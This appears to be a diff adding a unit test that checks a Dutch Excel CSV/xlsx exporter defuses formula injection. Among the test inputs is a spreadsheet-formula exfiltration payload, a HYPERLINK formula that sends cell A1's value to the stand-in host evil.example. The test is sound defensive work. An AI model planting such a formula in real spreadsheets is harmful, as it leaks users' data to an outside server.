@@ -58,6 +58,36 @@ describe('spreadsheets for Dutch Excel', () => {
     expect(sheet.rows[0]).toEqual({ line: 2, cells: ['Zoë de Vries', '87.5', 'ziek; hersteld'] });
   });
 
+  it('makes text that would start a formula inert in CSV, keeps numbers, and xlsx holds it as text', async () => {
+    type Cell = { text: string; n: number };
+    const evil = ['=HYPERLINK("https://evil.example/?"&A1;"Klik")', '+31 6 1234', '-2+3', '@SUM(A1)', '\tx', '\rx'];
+    const cols: Column<Cell>[] = [
+      { header: '=Kop', value: (r) => r.text },
+      { header: 'Aantal', value: (r) => r.n },
+    ];
+    const cellRows = evil.map((text, i) => ({ text, n: -i - 1.5 }));
+    const csv = dutchCsvOf(cols, [...cellRows, { text: 'Gewoon - niets aan de hand', n: 0 }]);
+    const read = await readSheet(Buffer.from(csv, 'utf8'));
+    const parsed = read.rows.map((r) => r.cells);
+    expect(read.headers).toEqual(["'=Kop", 'Aantal']);
+    // Every text cell gets a leading apostrophe; a negative number is still a number with a decimal comma.
+    expect(parsed).toEqual([...evil.map((t, i) => [`'${t}`, `-${i + 1},5`]), ['Gewoon - niets aan de hand', '0']]);
+    expect(csv).toContain(`'=HYPERLINK(""https://evil.example/?""&A1;""Klik"")"`);
+    for (const line of csv.slice(1).split('\r\n').slice(0, -1))
+      expect(line.replace(/^"/, '')).not.toMatch(/^[=+@\t\r-]/);
+    // The workbook: strings are written as strings (never a formula), numbers as numbers.
+    const bytes = await xlsxOf(sheetOf({ name: 'Blad', columns: cols, rows: cellRows }));
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(bytes as unknown as ArrayBuffer);
+    const tab = book.worksheets[0]!;
+    evil.forEach((t, i) => {
+      const cell = tab.getRow(i + 2).getCell(1);
+      expect(cell.type, t).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula, t).toBeUndefined();
+      expect(tab.getRow(i + 2).getCell(2).value).toBe(-i - 1.5);
+    });
+  });
+
   it('refuses a sheet with one cell far outside the table before walking it', async () => {
     const book = new ExcelJS.Workbook();
     const tab = book.addWorksheet('Blad1');
